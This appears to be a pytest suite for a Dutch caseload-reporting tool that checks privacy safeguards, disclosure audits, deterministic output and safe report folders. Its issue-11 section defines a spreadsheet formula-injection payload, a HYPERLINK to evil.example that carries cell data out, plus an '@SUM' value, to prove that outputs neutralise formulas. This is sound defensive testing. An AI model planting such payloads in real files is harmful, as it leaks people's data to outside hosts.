"""End-to-end tests of `caseload refresh` on data/sample/ (and of caseload.refresh)."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

import caseload as cl
from caseload import refresh as rf
from caseload.cli import app
from caseload.privacy import check_file_no_bsn

ROOT = Path(__file__).resolve().parents[1]
SAMPLE = ROOT / "data" / "sample" / "caseload.toml"

pytestmark = pytest.mark.skipif(not SAMPLE.is_file(), reason="data/sample/caseload.toml is missing")


def _snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*"))
            if p.is_file()}


def _tables(folder: Path) -> dict[str, bytes]:
    return {k: v for k, v in _snapshot(folder).items()
            if k.startswith("tables/") or k == "tabellen.xlsx"}


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    """One CLI run on the sample: (exit code, output, out folder)."""
    out = tmp_path_factory.mktemp("refresh") / "reports"
    result = CliRunner().invoke(app, ["refresh", "--config", str(SAMPLE), "--out", str(out)])
    return result.exit_code, result.output, out


@pytest.mark.slow
def test_cli_end_to_end(run):
    code, output, out = run
    assert code == 0, output
    assert (out / "index.html").is_file() and (out / "tabellen.xlsx").is_file()
    manifest = json.loads((out / "manifest.json").read_text())
    steps = [s["name"] for s in manifest["steps"]]
    assert steps == [s.name for s in rf.STEPS]
    # Every step published something, and every table and figure it names was written.
    for step in manifest["steps"]:
        assert step["tables"] or step["figures"], f"step {step['name']} published nothing"
        for t in step["tables"]:
            assert (out / "tables" / f"{t}.csv").is_file(), t
        for f in step["figures"]:
            assert (out / "figures" / f"{f}.png").is_file() and (out / "figures" / f"{f}.svg").is_file()
    # The summary names every step.
    for name in steps:
        assert name in output


@pytest.mark.slow
def test_the_sample_report_passes_the_disclosure_audit(run):
    """Issue 11: the refresh writes relations.json and `caseload audit` finds nothing disclosed."""
    code, output, out = run
    assert code == 0, output
    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["disclosure_audit"]["disclosed"] == 0
    assert manifest["disclosure_audit"]["relations"] > 100
    audit = CliRunner().invoke(app, ["audit", str(out)])
    assert audit.exit_code == 0, audit.output
    assert re.search(r":\s+0\s+onthuld", audit.output)  # Dutch: the report's language


@pytest.mark.slow
def test_kernpunten_reconcile_with_the_published_tables_and_pass_the_audit(run):
    """Issue 12: "A niet getoond, B 51, C 48" beside a stock of 108 gave A back as 108 - 51 - 48,
    and printed B and C that the table (after its complementary suppression) hides."""
    from caseload.privacy.audit import audit_report

    code, output, out = run
    assert code == 0, output
    doc = json.loads((out / "relations.json").read_text(encoding="utf-8"))
    kern = doc["tables"]["kernpunten"]
    assert kern["rows"] >= 10 and kern["file"] is None
    rels = [r for r in doc["relations"] if r["terms"][0][0] == "kernpunten"]
    assert len(rels) == kern["rows"]
    tables = {n: list(csv.reader(io.StringIO((out / spec["file"]).read_text(encoding="utf-8-sig")),
                                 delimiter=";"))[1:]
              for n, spec in doc["tables"].items() if spec["file"]}
    for rel in rels:  # every printed count is the (sum of the) published cell(s), none of them hidden
        value = kern["values"][rel["terms"][0][1]][0]
        cells = [tables[t][r][c] for t, r, c, _ in rel["terms"][1:]]
        assert cells
        if all(c != "" for c in cells):  # shown cells (a sum: over the municipalities)
            assert sum(float(c.replace(".", "")) for c in cells) == value, rel["note"]
        else:  # hidden cells only as their sum (a row's total minus its shown cells), never one
            assert len(cells) >= 2 and all(c == "" for c in cells), rel["note"]
    assert audit_report(out).disclosed == []
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    seg = [f for f in manifest["findings"] if f["topic"] == "segments"]
    assert seg and all("cliënten in de indeling naar groep" in f["sentence"] for f in seg)
    rows = {r[0]: r for r in tables["segment_per_gemeente"]}
    for f in seg:  # a number printed for a group is the one the table shows
        row = rows["Totaal" if f["group"] == "Alle gemeenten samen" else f["group"]]
        for col, cell in zip(("A", "B", "C"), row[1:4], strict=True):
            printed = re.search(rf"\b{col} (\d[\d.]*)", f["sentence"])
            assert (printed.group(1) if printed else "") == cell, (f["sentence"], row)


@pytest.mark.slow
def test_no_table_is_empty_and_html_has_every_item(run):
    _, _, out = run
    html = (out / "index.html").read_text(encoding="utf-8")
    manifest = json.loads((out / "manifest.json").read_text())
    for t in manifest["tables"]:
        assert t["rows"] > 0, t["name"]
        # Every table has its place (long ones are linked, fully suppressed ones one sentence).
        assert f'id="s-{t["name"]}"' in html
    for f in manifest["figures"]:
        assert f'id="f-{f["name"]}"' in html
    assert "http://" not in html and "https://" not in html


@pytest.mark.slow
def test_manifest_is_complete(run):
    _, _, out = run
    m = json.loads((out / "manifest.json").read_text())
    inputs = {Path(i["path"]).name: i for i in m["inputs"]}
    cfg = cl.load_config(SAMPLE)
    expected = {"caseload.toml", *(Path(f).name for f in cfg.extract.files)}
    assert expected <= set(inputs)
    for i in m["inputs"]:
        assert hashlib.sha256(Path(i["path"]).read_bytes()).hexdigest() == i["sha256"]
    assert m["config"]["extract"]["peildatum"] == "2025-12-31"
    assert m["config"]["privacy"]["min_cell"] == 5
    assert m["peildatum"] == "2025-12-31"
    assert {"caseload", "pandas", "numpy", "scikit-learn", "statsmodels", "matplotlib",
            "pyarrow"} <= set(m["packages"])
    assert all(s["rows"] >= 0 and s["seconds"] >= 0 for s in m["steps"])
    assert m["timings"]["total_seconds"] >= m["timings"]["steps_seconds"] > 0
    assert sum(t["suppressed"]["primary"] for t in m["tables"]) > 0
    for rel, digest in m["files"].items():
        assert hashlib.sha256((out / rel).read_bytes()).hexdigest() == digest


@pytest.mark.slow
def test_no_personal_numbers_or_pseudonyms_in_any_file(run):
    _, _, out = run
    cfg = cl.load_config(SAMPLE)
    cs = cl.read_extract(config=cfg)
    pseudonyms = set(cs.clients["client_id"].dropna()) | set(cs.spells["client_id"].dropna())
    dossiers = set(cs.spells["dossier_id"].dropna())
    assert len(pseudonyms) > 100
    raw = pd.read_csv(ROOT / "data" / "sample" / "uitkeringen.csv", sep=";", dtype=str)
    client_numbers = set(raw["Clientnummer"].dropna()) | set(raw["Dossiernr"].dropna())
    token = re.compile(r"[0-9a-f]{20}")
    files = [p for p in out.rglob("*") if p.is_file()]
    for p in files:
        if p.suffix == ".pdf":
            # The PDF's text, as a reader copies it (the writer checks the HTML it prints).
            import subprocess

            text = subprocess.run(["pdftotext", str(p), "-"], capture_output=True, text=True,
                                  check=True).stdout
            txt = p.parent / ".rapport_pdf_text.txt"
            txt.write_text(text, encoding="utf-8")
            try:
                check_file_no_bsn(txt)
            finally:
                txt.unlink()
            assert not (set(token.findall(text)) & (pseudonyms | dossiers)), "pseudonym in the PDF"
            continue
        check_file_no_bsn(p)
        if p.suffix == ".png":
            continue
        if p.suffix == ".xlsx":
            with zipfile.ZipFile(p) as z:
                text = "\n".join(z.read(n).decode("utf-8") for n in z.namelist())
        else:
            text = p.read_text(encoding="utf-8")
        found = set(token.findall(text))
        assert not (found & (pseudonyms | dossiers)), f"pseudonym in {p.name}"
        if p.suffix == ".csv":
            cells = {c for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";") for c in row}
            assert not (cells & client_numbers), f"client number in {p.name}"


@pytest.mark.slow
def test_two_runs_give_identical_tables(run, tmp_path):
    _, _, first = run
    second = rf.refresh(SAMPLE, out_dir=tmp_path / "reports").out_dir
    a, b = _tables(first), _tables(second)
    assert set(a) == set(b)
    assert [k for k in a if a[k] != b[k]] == []
    # Figures and the report are deterministic too; only the manifest has timings.
    sa, sb = _snapshot(first), _snapshot(second)
    assert [k for k in sa if sa[k] != sb[k]] == ["manifest.json"]


def test_failed_step_leaves_previous_reports(tmp_path, monkeypatch):
    out = tmp_path / "reports"
    rf.refresh(SAMPLE, out_dir=out, steps=["validate", "stock"])
    before = _snapshot(out)

    def broken(ctx):
        raise ValueError("simulated failure")

    steps = [s if s.name != "stock" else rf.Step(s.name, s.title_nl, s.title_en, broken)
             for s in rf.STEPS]
    monkeypatch.setattr(rf, "STEPS", steps)
    with pytest.raises(rf.RefreshError, match=r"step 'stock'.*simulated failure"):
        rf.refresh(SAMPLE, out_dir=out, steps=["validate", "stock"])
    assert _snapshot(out) == before
    assert [p.name for p in tmp_path.iterdir()] == ["reports"]
    # The CLI says which step failed and exits with 2, without a traceback.
    result = CliRunner().invoke(app, ["refresh", "--config", str(SAMPLE), "--out", str(out)])
    assert result.exit_code == 2
    assert "step 'stock'" in result.output and "Traceback" not in result.output
    assert _snapshot(out) == before


def test_bad_config_and_unknown_step(tmp_path):
    bad = tmp_path / "caseload.toml"
    bad.write_text('[extract]\nfiles = ["missing.csv"]\n', encoding="utf-8")
    result = CliRunner().invoke(app, ["refresh", "--config", str(bad), "--out", str(tmp_path / "r")])
    assert result.exit_code == 2
    assert "step 'validate'" in result.output and "missing.csv" in result.output
    assert not (tmp_path / "r").exists()
    with pytest.raises(rf.RefreshError, match="unknown step"):
        rf.refresh(SAMPLE, out_dir=tmp_path / "r", steps=["validate", "nonsense"])


def test_english_report(tmp_path):
    res = rf.refresh(SAMPLE, out_dir=tmp_path / "r", lang="en", steps=["validate", "stock"])
    html = (res.out_dir / "index.html").read_text(encoding="utf-8")
    assert "Reference date" in html and "Caseload by age" in html
    header = (res.out_dir / "tables" / "bestand_geslacht.csv").read_text(encoding="utf-8-sig").splitlines()[0]
    assert header == "Sex;Count;Percent"


def test_stock_composition_matches_hand_count():
    cfg = cl.load_config(SAMPLE)
    cs = cl.read_extract(config=cfg)
    stock = rf.stock_on(cs)
    peil = cs.peildatum
    sp = cs.spells
    running = sp[(sp["start_date"] <= peil) & (sp["end_date"].isna() | (sp["end_date"] > peil))]
    assert len(stock) == running["client_id"].nunique()
    assert stock["client_id"].is_unique
    table = rf.stock_composition(stock, "sex", cl.schema.SEX)
    assert table["aantal"].iloc[-1] == len(stock)
    assert table["aantal"].iloc[:-1].sum() == len(stock)
    assert table["percentage"].iloc[:-1].sum() == pytest.approx(100.0)
    men = stock["sex"].eq("M").sum()
    assert table.set_index("Geslacht").loc["Man", "aantal"] == men


def test_refused_report_leaves_previous_reports(tmp_path):
    """A BSN-like number in the config's title is caught in the written files; nothing changes."""
    out = tmp_path / "reports"
    rf.refresh(SAMPLE, out_dir=out, steps=["validate"])
    before = _snapshot(out)
    cfg = cl.load_config(SAMPLE, report={"title": "Rapport 123456782"})
    with pytest.raises(rf.RefreshError, match="writing the report"):
        rf.refresh(cfg, out_dir=out, steps=["validate"])
    assert _snapshot(out) == before
    assert [p.name for p in tmp_path.iterdir()] == ["reports"]


@pytest.mark.slow
def test_identical_across_processes(tmp_path):
    """Another interpreter with another hash seed writes the same bytes (no set/dict-order leaks)."""
    import os
    import subprocess
    import sys

    steps = ["validate", "stock", "segment", "flows"]
    here = rf.refresh(SAMPLE, out_dir=tmp_path / "a", steps=steps).out_dir
    code = ("import sys; from caseload.refresh import refresh; "
            f"refresh(sys.argv[1], out_dir=sys.argv[2], steps={steps!r})")
    env = {**os.environ, "PYTHONHASHSEED": "12345"}
    subprocess.run([sys.executable, "-c", code, str(SAMPLE), str(tmp_path / "b")], env=env,
                   check=True, capture_output=True)
    sa, sb = _snapshot(here), _snapshot(tmp_path / "b")
    assert set(sa) == set(sb)
    assert [k for k in sa if sa[k] != sb[k]] == ["manifest.json"]


def test_candidates_table_shows_exactly_the_published_pmc_cells(run):
    """segment_kandidaten repeats cells of segment_pmc: both must hide the same cells,
    or the two tables together could reveal a suppressed count."""

    _, _, out = run
    pmc = pd.read_csv(out / "tables" / "segment_pmc.csv", dtype=str, sep=";", encoding="utf-8-sig")
    cand = pd.read_csv(out / "tables" / "segment_kandidaten.csv", dtype=str, sep=";", encoding="utf-8-sig")
    # Groups are published by their labels ("A: direct bemiddelbaar"): the letter is the code.
    pmc.iloc[:, 1] = pmc.iloc[:, 1].str[0]
    muni, group, profile, market, n = pmc.columns[[0, 1, 2, 4, 6]]
    published = {(r[muni], f"{r[profile]}-{r[market]}", r[group]): r[n] for _, r in pmc.iterrows()
                 if r[group] in ("A", "B")}
    assert any(pd.isna(v) for v in published.values()), "the sample should have suppressed cells"
    for _, r in cand.iterrows():
        for seg, col in (("A", cand.columns[3]), ("B", cand.columns[4])):
            key = (r[cand.columns[0]], r[cand.columns[1]], seg)
            if key in published:
                assert (pd.isna(published[key]) and pd.isna(r[col])) or published[key] == r[col], key
            else:
                assert r[col] == "0", key


def test_overrides_of_the_sample_are_applied_and_reported(run):
    """data/sample/overrides.csv has 12 changed groups and 1 confirmation (Clientnummer based)."""

    _, _, out = run
    t = pd.read_csv(out / "tables" / "segment_overschrijvingen.csv", dtype=str, sep=";", encoding="utf-8-sig")
    overridden = pd.to_numeric(t.iloc[:, 2], errors="coerce")
    # The 10 overrides are spread over small cells: whatever is shown is 0 or at least min_cell
    # (the audit may hide more cells, see tests/test_privacy_audit.py).
    assert len(t) == 3 and ((overridden.dropna() == 0) | (overridden.dropna() >= 5)).all()
    cfg = cl.load_config(SAMPLE)
    cs = cl.read_extract(config=cfg)
    from caseload.extract import read_overrides

    res = cl.segment(cs, cfg, overrides=read_overrides(cfg.resolve(cfg.segment.overrides_file)))
    # Issue 14: 2 of the 13 are older than their client's latest assessment: expired, logged, not applied.
    assert res.counts["overrides_applied"] == 11 and res.counts["overrides_unmatched"] == 0
    assert res.counts["overrides_expired"] == 2 and len(res.overrides_log) == 2
    assert int(res.clients["overridden"].sum()) == 10
    # cl.segment(cs, cfg) reads [segment] overrides_file itself, like the batch run (issue 12)
    assert cl.segment(cs, cfg).counts["overrides_applied"] == 11


def test_refresh_scores_with_the_committed_model(tmp_path):
    """[segment] model_file: the batch run loads the committed sample model (card checked)."""
    model = Path(__file__).parents[1] / "models" / "segment_logistic_sample.skops"
    cfg = cl.load_config(SAMPLE, segment={"model_file": str(model)})
    res = rf.refresh(cfg, out_dir=tmp_path / "r", steps=["validate", "segment"])
    html = (res.out_dir / "index.html").read_text(encoding="utf-8")
    assert "het model" in html
    m = json.loads((res.out_dir / "manifest.json").read_text())
    assert any(Path(i["path"]).name == model.name for i in m["inputs"])


# ------------------------------------------------------------------ issue 11: no live formulas

_EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'


def _live_cells(folder: Path) -> list[str]:
    """Every CSV cell and XLSX cell in ``folder`` that a spreadsheet would run as a formula."""
    from openpyxl import load_workbook

    from caseload.publish.safe import needs_quote

    found = []
    for p in sorted(folder.rglob("*.csv")):
        sep = ";" if p.read_text(encoding="utf-8-sig").split("\n", 1)[0].count(";") else ","
        with open(p, newline="", encoding="utf-8-sig") as fh:
            for r, row in enumerate(csv.reader(fh, delimiter=sep), start=1):
                found += [f"{p.name}:{r}:{c!r}" for c in row if needs_quote(c)]
    for p in sorted(folder.rglob("*.xlsx")):
        wb = load_workbook(p)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                found += [f"{p.name}!{ws.title}!{c.coordinate}" for c in row
                          if c.data_type == "f" or (needs_quote(c.value) and not c.quotePrefix)]
    return found


@pytest.mark.slow
def test_formula_in_extract_and_title_is_text_in_every_output(tmp_path, sample_config):
    """Issue 11: a dropout reason and a report title starting with '=' never become formulas."""
    config = sample_config
    acts = config.parent / "activiteiten.csv"
    df = pd.read_csv(acts, sep=";", dtype=str, keep_default_na=False, encoding="cp1252")
    hit = df["dropout_reason"] == "Gebrek aan motivatie"
    assert hit.sum() >= 20
    df.loc[hit, "dropout_reason"] = _EVIL
    df.to_csv(acts, sep=";", index=False, encoding="cp1252")
    cfg = cl.load_config(config, report={"title": _EVIL})
    out = rf.refresh(cfg, out_dir=tmp_path / "reports", steps=["validate", "kpi"]).out_dir
    texts = b"".join(p.read_bytes() for p in (out / "tables").glob("*.csv"))
    assert b"'=HYPERLINK" in texts  # the reason is published, as text
    assert _live_cells(out) == []
    # The rejected rows of `caseload validate --out`: a bad sex code that starts a formula.
    uitk = config.parent / "uitkeringen.csv"
    lines = uitk.read_text(encoding="utf-8").splitlines()
    cells = lines[1].split(";")
    cells[3] = "@SUM(1+1)"
    lines[1] = ";".join(cells)
    uitk.write_text("\n".join(lines) + "\n", encoding="utf-8")
    rejected = tmp_path / "afgewezen" / "rejected.csv"
    result = CliRunner().invoke(app, ["validate", str(uitk), "--config", str(config), "--out",
                                      str(rejected)])
    assert result.exit_code == 1, result.output
    assert "'@SUM(1+1)" in rejected.read_text(encoding="utf-8-sig")
    assert _live_cells(rejected.parent) == []


# ------------------------------------------------------------------ issue 11: the report folder


def test_out_dir_above_the_config_is_refused_before_any_step(tmp_path, sample_config, monkeypatch):
    """`out_dir = "../../.."` made a parent folder the report, with the raw extract inside."""
    config = sample_config
    deep = tmp_path / "a" / "b" / "c"
    deep.mkdir(parents=True)
    toml = config.read_text(encoding="utf-8").replace('out_dir = "../reports"', 'out_dir = "../../.."')
    files = ", ".join(f'"{(config.parent / n).as_posix()}"' for n in
                      ("uitkeringen.csv", "clienten.csv", "diagnoses.csv", "activiteiten.csv"))
    toml = re.sub(r"files = \[[^\]]*\]", f"files = [{files}]", toml)
    toml = toml.replace('overrides_file = "overrides.csv"', "")
    (deep / "caseload.toml").write_text(toml, encoding="utf-8")
    ran = []
    monkeypatch.setattr(rf, "_run", lambda *a, **k: ran.append(1))
    before = _snapshot(tmp_path)
    with pytest.raises(rf.RefreshError, match="may not hold") as exc:
        rf.refresh(deep / "caseload.toml")
    assert "caseload.toml" in str(exc.value) and "Fix:" in str(exc.value)
    assert ran == [] and _snapshot(tmp_path) == before
    # A folder of other files is refused too, with the files named.
    mine = tmp_path / "mijn_documenten"
    mine.mkdir()
    (mine / "begroting.xlsx").write_bytes(b"x")
    with pytest.raises(rf.RefreshError, match="not written by caseload") as exc:
        rf.refresh(config, out_dir=mine)
    assert "begroting.xlsx" in str(exc.value) and ran == []
    assert [p.name for p in mine.iterdir()] == ["begroting.xlsx"]


def test_out_dir_holding_the_key_file_is_refused(tmp_path, sample_config, monkeypatch):
    config = sample_config
    keys = tmp_path / "sleutels"
    keys.mkdir()
    cfg = cl.load_config(config, privacy={"key_file": str(keys / "pseudonym.key")})
    monkeypatch.setattr(rf, "_run", lambda *a, **k: None)
    with pytest.raises(rf.RefreshError, match="may not hold") as exc:
        rf.refresh(cfg, out_dir=keys)
    assert "pseudonym.key" in str(exc.value)
    assert list(keys.iterdir()) == []


@pytest.mark.slow
@pytest.mark.parametrize("written", ["111 222 333", "111.222.333"])
def test_a_grouped_bsn_in_the_extract_stops_the_report(tmp_path, sample_config, written):
    """Issue 11: a BSN written in groups in a dropout reason reached the CSV, HTML and XLSX."""
    config = sample_config
    acts = config.parent / "activiteiten.csv"
    df = pd.read_csv(acts, sep=";", dtype=str, keep_default_na=False, encoding="cp1252")
    df.loc[df["dropout_reason"] == "Gebrek aan motivatie", "dropout_reason"] = f"klant {written} gebeld"
    df.to_csv(acts, sep=";", index=False, encoding="cp1252")
    out = tmp_path / "reports"
    with pytest.raises(rf.RefreshError, match="BSN") as exc:
        rf.refresh(config, out_dir=out, steps=["validate", "kpi"])
    assert "111222333" not in str(exc.value) and written not in str(exc.value)
    assert not out.exists()
